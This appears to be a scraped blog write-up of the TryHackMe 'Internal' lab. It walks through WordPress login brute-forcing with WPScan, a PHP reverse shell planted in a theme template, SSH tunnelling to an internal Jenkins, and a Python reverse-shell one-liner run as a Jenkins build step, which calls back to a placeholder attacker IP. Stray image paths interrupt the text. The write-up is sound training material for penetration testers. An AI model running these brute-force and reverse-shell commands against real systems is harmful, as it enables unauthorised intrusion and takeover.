TryHackMe Internal writeup

TryHackMe Internal writeup

Internal is the last machine in the “Advanced Exploitation” part of TryHackMe’s “Offensive pentesting” path.


As I’m starting to prepare for my “Dry run” for the OSCP exam, this time I will use more stuff from my methodology.

We already learned that enumeration is crucial, right? So why would you leave a chance to mess it up, if you have more automated tools?

Today, I will use Autorecon for my initial enumeration.

The syntax is simple:

autorecon <target_ip>

The tool will generate a bunch of scans and put all the results in a folder. Easy to follow up, easy to keep notes.Navigate to the results/<target_ip>/report/notes.txt and you will see all open ports:

[*] ssh found on tcp/22.
[*] http found on tcp/80.

You can keep track of your actions for each port right here.

Secondly, results/<target_ip>/scans/ folder contains all the fun stuff. If the tool pick up a port, let’s say port 80, it will automatically start a sub-scan for tools like nikto, gobuster, etc.

You will still need to analyze all of that stuff and maybe repeat some gobuster scans for subfolders, but just by using this tool, you increase your chance to find juicy stuff on your target.

You might also like to use Sparta for that, but I like the Autorecon a bit more.


So, Autorecon picked up that there is a folder /blog on port 80. You can see that the WordPress is running there, navigate to the panel, and try to login with something trivial as admin:admin.

internal.thm need to be added to the /etc/hosts

You will get the error message Error: The password you entered for the username admin is incorrect..

Now we know that the admin is the correct username, but the password is wrong.

Let’s use the WPScan to learn more about this setup and bruteforce the password:

wpscan --url http://internal.thm/blog/wp-login.php --usernames admin --passwords /usr/share/wordlists/rockyou.txt
         __          ___   _____
         \ \        / /  __ \ / ____|
          \ \  /\  / /| |__) | (___   ___  __ _ _ __ ®
           \ \/  \/ / |  ___/ \___ \ / __|/ _` | '_ \
            \  /\  /  | |     ____) | (__| (_| | | | |
             \/  \/   |_|    |_____/ \___|\__,_|_| |_|

         WordPress Security Scanner by the WPScan Team
                         Version 3.8.7

       @_WPScan_, @ethicalhack3r, @erwan_lr, @firefartAfter a while, the WPScan will wind the correct password for you:

[!] Valid Combinations Found:
 | Username: admin, Password: <redacted>

A standard way is to navigate to the Theme editor, and add a php-reverse-shell instead of one of the pages in atemplate.

I usually go for404.php as it is easy to trigger.

You can grab your template for a reverse shell from here. Don’t forget to change your IP and port.

If you’re placing your shell instead of 404.php page, you can trigger it by opening a page on the server that doesn’t exist.


Catch the shell with the nc.

You can find the username aubreanna in the /home directory, but you can’t access it yet.

Let’s look around.

If you’re stuck, check interesting directories like /var/backups, /tmp, /opt, etc. and check if there is anything that stood out.

The /opt directory in our case contains the file wp-save.txt:

cat wp-save.txtAubreanna needed these credentials for something later.  Lether know you have them and where they are.


Now we can ssh to the box as user aubreanna:

ssh aubreanna@<target_ip>

Let’s check what we have in the /home directory:

/home/aubreanna# ls
jenkins.txt  snap  user.txt


To PrivEsc here we need to enumerate a bit more:

cat jenkins.txt
Internal Jenkins service is running on

IP looks weird, it’s different from the <target_ip>.

ip a3: docker0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP group default
    link/ether 02:42:a7:d9:5d:ec brd ff:ff:ff:ff:ff:ff
    inet brd scope global docker0
       valid_lft forever preferred_lft forever
    inet6 fe80::42:a7ff:fed9:5dec/64 scope link
       valid_lft forever preferred_lft forever

Now we know that we are dealing with the Docker container with Jenkins inside.To access it we can use ssh-tunneling:

ssh -L 8080: aubreanna@<target_ip>

Now you can open localhost:8080 in your browser and get access to the Jenkins login page.

We don’t have any credentials that will work here, so let’s try a bruteforcing again.

This time I will use TurboIntruder - the extension for the Burp Suite. You can read more about it here. I used script for the TurboIntruder and the rockyou.txt as a wordlist.

You will find the password in less than a minute. You can say that by sorting the Length tab and finding the lowest size of the response.

Now you have access to Jenkins!

You can create the new Build and choose Execute shell in the options.

I used the python reverse shell from PentestMonkey as a parameter:

python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("<your_ip>",<your_port>));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'

Click Build now and catch your shell with the nc.jenkins@jenkins:/opt$ whoami

jenkins@jenkins:/opt$ uname -a
Linux jenkins 4.15.0-112-generic #113-Ubuntu SMP Thu Jul 9 23:41:39 UTC 2020 x86_64 GNU/Linux

We are within a Docker container now. Let’s look around.

Frankly speaking, I expected to see something from GTFOBins as a way to escape from the container, but the solution was way more simple.

jenkins@jenkins:~$ cd /opt
jenkins@jenkins:/opt$ ls
jenkins@jenkins:/opt$ cat note.txt


Will wanted these credentials securedbehind the Jenkins container since we have several layers of defense here.  Usethem if you
need access to the root user account.


Now you can su from the main box to the root user.


  • Sometimes, you feel that the solution is so easy, so you stumble across the fact that each system could be different. Do not assume anything. Even the path that you followed 100 times before might not work out on 101st.

  • You can’t rely on your enumeration tools 100% of thetime, those .txt notes would befound by most of them